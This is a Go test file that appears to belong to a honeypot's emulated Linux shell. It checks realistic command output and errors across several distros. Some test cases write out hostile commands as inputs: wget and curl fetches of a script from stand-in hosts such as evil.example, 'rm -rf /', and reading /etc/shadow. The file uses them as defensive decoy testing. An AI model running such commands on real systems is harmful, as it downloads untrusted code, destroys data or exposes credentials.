package shell

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"decnet/internal/archetype"
)

var update = flag.Bool("update", false, "rewrite golden files")

var (
	testNow  = time.Date(2026, 11, 25, 20, 46, 26, 0, time.UTC)
	testBoot = testNow.Add(-(3*24*time.Hour + 4*time.Hour + 12*time.Minute))
)

// newTestSession opens a fresh filesystem with a fixed clock.
func newTestSession(t testing.TB, distro, user, tty string) *Session {
	t.Helper()
	f, err := Open(t.TempDir(), System{Hostname: "SRV-WEB-17", Distro: distro, IP: "10.0.0.23", Boot: testBoot})
	if err != nil {
		t.Fatal(err)
	}
	s := f.NewSession(Options{User: user, RemoteIP: "203.0.113.9", TTY: tty})
	s.now = func() time.Time { return testNow }
	s.login = testNow
	return s
}

func runLine(s *Session, line string) (string, int) {
	var out bytes.Buffer
	st := s.Exec(context.Background(), line, &out, &out)
	return out.String(), st
}

func TestCommands(t *testing.T) {
	tests := []struct {
		distro, user, line, want string
		status                   int
	}{
		{"debian", "root", "uname -a", "Linux SRV-WEB-17 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\n", 0},
		{"rocky9", "root", "uname -a", "Linux SRV-WEB-17 5.14.0-503.14.1.el9_5.x86_64 #1 SMP PREEMPT_DYNAMIC Fri Nov 15 12:04:32 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n", 0},
		{"debian", "root", "uname -rsm", "Linux 6.1.0-28-amd64 x86_64\n", 0},
		{"debian", "root", "uname -q", "uname: invalid option -- 'q'\nTry 'uname --help' for more information.\n", 1},
		{"debian", "root", "uname x", "uname: extra operand 'x'\nTry 'uname --help' for more information.\n", 1},
		{"ubuntu22", "ubuntu", "id", "uid=1000(ubuntu) gid=1000(ubuntu) groups=1000(ubuntu),4(adm),20(dialout),24(cdrom),25(floppy),27(sudo),29(audio),30(dip),44(video),46(plugdev),106(netdev),110(lxd)\n", 0},
		{"rocky9", "root", "id", "uid=0(root) gid=0(root) groups=0(root) context=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023\n", 0},
		{"debian", "root", "foo", "bash: line 1: foo: command not found\n", 127},
		{"ubuntu20", "root", "foo", "bash: foo: command not found\n", 127},
		{"alpine", "root", "foo", "ash: foo: not found\n", 127},
		{"debian", "root", "cd /nope", "bash: line 1: cd: /nope: No such file or directory\n", 1},
		{"debian", "root", "cd /etc/passwd", "bash: line 1: cd: /etc/passwd: Not a directory\n", 1},
		{"debian", "root", "cd /tmp; cd /etc; cd -; pwd", "/tmp\n/tmp\n", 0},
		{"debian", "root", "cd ~; pwd; echo $HOME", "/root\n/root\n", 0},
		{"debian", "root", "echo -n a; echo -e 'b\\tc\\x41'; echo \"$USER\" '$USER'", "ab\tcA\nroot $USER\n", 0},
		{"debian", "root", "cat /nope; echo $?", "cat: /nope: No such file or directory\n1\n", 0},
		{"debian", "root", "ls /nope", "ls: cannot access '/nope': No such file or directory\n", 2},
		{"debian", "root", "rm /nope", "rm: cannot remove '/nope': No such file or directory\n", 1},
		{"debian", "root", "rm -f /nope", "", 0},
		{"debian", "root", "mkdir /tmp/a/b", "mkdir: cannot create directory ‘/tmp/a/b’: No such file or directory\n", 1},
		{"ubuntu22", "root", "LANG=C; mkdir /tmp; echo", "mkdir: cannot create directory '/tmp': File exists\n\n", 0},
		{"debian", "root", "mkdir -p /tmp/a/b && touch /tmp/a/b/f && ls /tmp/a/b", "f\n", 0},
		{"debian", "root", "echo hi > /tmp/f; echo there >> /tmp/f; cat /tmp/f | wc -l", "2\n", 0},
		{"debian", "root", "cp /etc/hostname /tmp/h && mv /tmp/h /tmp/i && cat /tmp/i; ls /tmp/h", "SRV-WEB-17\nls: cannot access '/tmp/h': No such file or directory\n", 2},
		{"debian", "root", "cp /etc /tmp", "cp: -r not specified; omitting directory '/etc'\n", 1},
		{"debian", "root", "cp", "cp: missing file operand\nTry 'cp --help' for more information.\n", 1},
		{"debian", "root", "grep -c bash /etc/passwd", "2\n", 0},
		{"debian", "root", "grep root /etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", 0},
		{"debian", "root", "grep nothere /etc/passwd", "", 1},
		{"debian", "root", "head -n 2 /etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\n", 0},
		{"debian", "root", "tail -1 /etc/os-release", "BUG_REPORT_URL=\"https://bugs.debian.org/\"\n", 0},
		{"debian", "root", "echo a b c | wc", "      1       3       6\n", 0},
		{"debian", "root", "hostname; cat /etc/hostname", "SRV-WEB-17\nSRV-WEB-17\n", 0},
		{"debian", "root", "whoami", "root\n", 0},
		{"debian", "admin", "whoami; sudo whoami; cat /etc/shadow", "admin\nroot\ncat: /etc/shadow: Permission denied\n", 1},
		{"debian", "admin", "touch /etc/x", "touch: cannot touch '/etc/x': Permission denied\n", 1},
		{"debian", "root", "uptime", " 20:46:26 up 3 days,  4:12,  1 user,  load average: 0.00, 0.01, 0.00\n", 0},
		{"debian", "root", "date; date +%F", "Wed Nov 25 08:46:26 PM UTC 2026\n2026-11-25\n", 0},
		{"ubuntu22", "root", "date", "Wed Nov 25 20:46:26 UTC 2026\n", 0},
		{"debian", "root", "which ls sh nothere; echo $?", "/usr/bin/ls\n/usr/bin/sh\n1\n", 0},
		{"debian", "root", "wget http://evil.example/x.sh", "--2026-11-25 20:46:26--  http://evil.example/x.sh\nResolving evil.example (evil.example)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘evil.example’\n", 4},
		{"debian", "root", "curl -s http://198.51.100.7/x", "", 7},
		{"debian", "root", "curl http://evil.example/x", "curl: (6) Could not resolve host: evil.example\n", 6},
		{"debian", "root", "ifconfig", "bash: line 1: ifconfig: command not found\n", 127},
		{"debian", "root", "ip r", "default via 10.0.0.1 dev eth0 proto dhcp src 10.0.0.23 metric 100 \n10.0.0.0/24 dev eth0 proto kernel scope link src 10.0.0.23 metric 100 \n", 0},
		{"debian", "root", "echo 'x", "bash: line 1: unexpected EOF while looking for matching `''\n", 2},
		{"debian", "root", "echo $(echo nested) `whoami`", "nested root\n", 0},
		{"debian", "root", "echo '#!/bin/sh\necho from script' > /tmp/s; chmod +x /tmp/s; /tmp/s; sh /tmp/s", "from script\nfrom script\n", 0},
		{"debian", "root", "printf '\\x7fELF' > /tmp/b; chmod 755 /tmp/b; /tmp/b", "bash: line 1: /tmp/b: cannot execute binary file: Exec format error\n", 126},
		{"debian", "root", "/tmp/nothere", "bash: line 1: /tmp/nothere: No such file or directory\n", 127},
		{"debian", "root", "rm -rf /", "rm: it is dangerous to operate recursively on '/'\nrm: use --no-preserve-root to override this failsafe\n", 1},
		{"debian", "root", "rm -rf /usr/bin/ls; ls", "bash: line 1: ls: command not found\n", 127},
		{"debian", "root", "cat /proc/cpuinfo | grep -c processor; nproc", "4\n4\n", 0},
		{"debian", "root", "exit 3; echo no", "", 3},
	}
	for _, tt := range tests {
		t.Run(tt.distro+" "+tt.line, func(t *testing.T) {
			s := newTestSession(t, tt.distro, tt.user, "")
			got, st := runLine(s, tt.line)
			if got != tt.want || st != tt.status {
				t.Errorf("got %q (%d)\nwant %q (%d)", got, st, tt.want, tt.status)
			}
		})
	}
}

// TestGolden compares long outputs with testdata/*.golden (go test
// -update rewrites them): lines typed at the terminal, or run as an exec
// (exec), as bots run their recon.
func TestGolden(t *testing.T) {
	tests := []struct {
		name, distro, user, line string
		exec                     bool
	}{
		{"ls_la_root_debian", "debian", "root", "ls -la /root", false},
		{"ls_l_root_rocky9", "rocky9", "root", "ls -l /", false},
		{"ls_columns_etc", "debian", "root", "ls /etc", false},
		{"ip_a_debian", "debian", "root", "ip a", false},
		{"df_h_debian", "debian", "root", "df -h; df", false},
		{"free_debian", "debian", "root", "free; free -m", false},
		{"free_ubuntu22", "ubuntu22", "root", "free", false},
		{"w_debian", "debian", "root", "w; who", false},
		{"ifconfig_kali", "kali", "root", "ifconfig", false},
		{"lscpu_debian", "debian", "root", "lscpu", true},
		{"lscpu_centos7", "centos7", "root", "lscpu", true},
		{"lscpu_ubuntu20", "ubuntu20", "root", "lscpu", true},
		{"top_bn1_debian", "debian", "admin", "top -bn1", true},
		{"top_bn1_centos7", "centos7", "root", "top -b -n 1", true},
		{"top_bn1_alpine", "alpine", "root", "top -bn1", true},
		{"dmidecode_debian", "debian", "root", "dmidecode", true},
		{"busybox_debian", "debian", "root", "busybox", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := newTestSession(t, tt.distro, tt.user, "pts/0")
			s.pid = 2841 // the session's PIDs follow the wall clock
			var out string
			if tt.exec {
				out, _ = runLine(s, tt.line)
			} else {
				var b bytes.Buffer
				s.termOut = &b
				s.Run(context.Background(), tt.line, &b, &b)
				out = b.String()
			}
			golden := filepath.Join("testdata", tt.name+".golden")
			if *update {
				if err := os.WriteFile(golden, []byte(out), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if out != string(want) {
				t.Errorf("got:\n%s\nwant:\n%s", out, want)
			}
		})
	}
}

func TestPrompts(t *testing.T) {
	tests := []struct{ distro, user, want string }{
		{"debian", "root", "root@SRV-WEB-17:~# "},
		{"ubuntu22", "ubuntu", "ubuntu@SRV-WEB-17:~$ "},
		{"rocky9", "root", "[root@SRV-WEB-17 ~]# "},
		{"alpine", "root", "SRV-WEB-17:~# "},
	}
	for _, tt := range tests {
		if got := newTestSession(t, tt.distro, tt.user, "pts/0").Prompt(); got != tt.want {
			t.Errorf("%s: %q, want %q", tt.distro, got, tt.want)
		}
	}
}

func TestPersistenceAndLimits(t *testing.T) {
	dir := t.TempDir()
	sys := System{Hostname: "h", Distro: "debian"}
	f, err := Open(dir, sys)
	if err != nil {
		t.Fatal(err)
	}
	var writes []FileWrite
	s := f.NewSession(Options{User: "root", Hooks: Hooks{File: func(w FileWrite) { writes = append(writes, w) }}})
	runLine(s, "echo keep > /root/k")
	s.Close()
	boot := f.Boot()
	if len(writes) != 1 || writes[0].Path != "/root/k" || writes[0].Size != 5 {
		t.Fatalf("writes %+v", writes)
	}
	f2, err := Open(dir, sys)
	if err != nil {
		t.Fatal(err)
	}
	if !f2.Boot().Equal(boot) {
		t.Errorf("boot time changed: %v vs %v", f2.Boot(), boot)
	}
	s2 := f2.NewSession(Options{User: "root"})
	if out, _ := runLine(s2, "cat /root/k"); out != "keep\n" {
		t.Errorf("after reopen: %q", out)
	}
	old := MaxFileSize
	MaxFileSize = 8
	defer func() { MaxFileSize = old }()
	if out, st := runLine(s2, "echo 0123456789 > /root/big"); st != 1 || !strings.Contains(out, "File too large") {
		t.Errorf("oversized write: %q %d", out, st)
	}
}

func TestConcurrentSessions(t *testing.T) {
	f, err := Open(t.TempDir(), System{Hostname: "h", Distro: "debian"})
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			s := f.NewSession(Options{User: "root"})
			defer s.Close()
			for j := 0; j < 20; j++ {
				runLine(s, fmt.Sprintf("mkdir -p /tmp/d%d; echo %d > /tmp/d%d/f%d; cat /tmp/d%d/f%d; ls /tmp >/dev/null; rm -r /tmp/d%d", i, j, i, j, i, j, i))
			}
		}()
	}
	wg.Wait()
}

// TestDistrosCoverCatalogue checks that every distro a decky can claim has
// its own table entry (an unknown slug silently becomes debian) and that
// the shell shows the catalogue's kernel, which other services show too.
func TestDistrosCoverCatalogue(t *testing.T) {
	for _, d := range archetype.AllDistros() {
		if _, ok := distros[d.Slug]; !ok {
			t.Errorf("no shell table entry for distro %s", d.Slug)
			continue
		}
		k := archetype.KernelOf(d.Slug)
		s := newTestSession(t, d.Slug, "root", "")
		if got, _ := runLine(s, "uname -r"); got != k.Release+"\n" {
			t.Errorf("%s: uname -r = %q, want %q", d.Slug, got, k.Release)
		}
		want := "Linux version " + k.Release + " " + k.Builder + " " + k.Version + "\n"
		if got, _ := runLine(s, "cat /proc/version"); got != want {
			t.Errorf("%s: /proc/version = %q, want %q", d.Slug, got, want)
		}
	}
}
